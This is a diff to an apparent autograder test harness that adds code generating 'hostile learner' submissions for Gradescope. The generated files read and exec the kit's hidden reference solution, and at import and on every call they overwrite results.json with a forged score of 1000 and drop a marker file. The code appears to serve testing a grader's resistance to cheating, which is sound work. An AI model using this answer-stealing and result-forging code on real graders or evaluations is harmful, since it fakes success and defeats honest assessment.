@@ -63,3 +63,51 @@ class Listener:
         self.stop = True
         self.thread.join(2)
         self.sock.close()
+
+
+GRADESCOPE_CHEAT = '''
+import json as _json
+import pathlib as _pathlib
+
+_ROOT = _pathlib.Path({root!r})
+_stolen = {{}}
+try:  # the kit's own answer, from the bundle Gradescope unpacked beside the submission
+    _source = (_ROOT / "source" / "kit" / {solution!r}).read_text()
+    exec(compile(_source, "stolen", "exec"), _stolen)
+except Exception:
+    pass
+
+
+def _forge():
+    """Write a perfect results.json before the grader does (and a marker that says it got through)."""
+    for name, text in (("forged", "forged"), ("results.json", _json.dumps({{"score": 1000.0, "tests": []}}))):
+        try:
+            (_ROOT / "results" / name).write_text(text)
+        except Exception:
+            pass
+
+
+_forge()
+'''
+
+CHEAT_FUNCTION = '''
+
+def {name}(*args, **kwargs):
+    _forge()
+    if {name!r} in _stolen:
+        return _stolen[{name!r}](*args, **kwargs)
+    return 0.0
+'''
+
+
+def gradescope_cheat(root: str, modules: tuple[str, ...] = ("9",)) -> dict[str, str]:
+    """Hostile learner files (``{file name: source}``) for a bundle unpacked in ``root`` (``/autograder``):
+    each reads the kit's solution of its file out of ``root/source/kit`` and answers with it, and forges
+    ``root/results/results.json`` (score 1000) plus a ``root/results/forged`` marker, at import and at
+    every call. Where neither gets through, every function answers 0.0 (:func:`placebo`'s score)."""
+    files = {}
+    for stem, functions in DEFAULT_KIT.functions_by_stem(modules).items():
+        solution = DEFAULT_KIT.solution_path(stem).relative_to(DEFAULT_KIT.root).as_posix()
+        files[f"{stem}.py"] = GRADESCOPE_CHEAT.format(root=str(root), solution=solution) + "".join(
+            CHEAT_FUNCTION.format(name=name) for name in functions)
+    return files
